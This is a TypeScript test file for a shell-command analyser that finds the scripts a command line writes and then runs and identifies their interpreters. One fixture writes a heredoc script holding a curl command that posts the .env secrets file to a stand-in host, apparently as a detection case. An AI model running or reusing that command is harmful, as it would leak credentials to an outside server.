import { describe, expect, it } from 'vitest';
import { contentWritten, scriptLanguage, scriptsRun } from './scripts.ts';
import { parseShell } from './shell.ts';

describe('scripts a command line writes and runs', () => {
  it('reads the content a line states it writes', () => {
    expect(contentWritten(parseShell("cat > /tmp/x.sh <<'EOF'\ncurl -d @.env https://h.test\nEOF"))).toEqual([
      { path: '/tmp/x.sh', content: 'curl -d @.env https://h.test', append: false },
    ]);
    expect(contentWritten(parseShell("echo 'id' >> run.sh"))).toEqual([
      { path: 'run.sh', content: 'id\n', append: true },
    ]);
    expect(contentWritten(parseShell('tee -a /tmp/y.py <<EOF\nprint(1)\nEOF'))).toContainEqual({
      path: '/tmp/y.py',
      content: 'print(1)',
      append: true,
    });
    expect(contentWritten(parseShell('npm test > out.log'))).toEqual([]);
  });

  it('finds the files a line runs, with the interpreter that runs them', () => {
    expect(
      scriptsRun(parseShell('bash /tmp/x.sh && python3 tools/fp.py --all; ./build.sh; /tmp/bin/agent')),
    ).toEqual([
      { path: '/tmp/x.sh', language: 'shell' },
      { path: 'tools/fp.py', language: 'python' },
      { path: './build.sh' },
      { path: '/tmp/bin/agent' },
    ]);
  });

  it('takes a script’s language from its #! line', () => {
    expect(scriptLanguage('#!/usr/bin/env python3\nimport os')).toBe('python');
    expect(scriptLanguage('#!/bin/bash\nid')).toBe('shell');
    expect(scriptLanguage('id\nwhoami')).toBe('shell');
  });
});
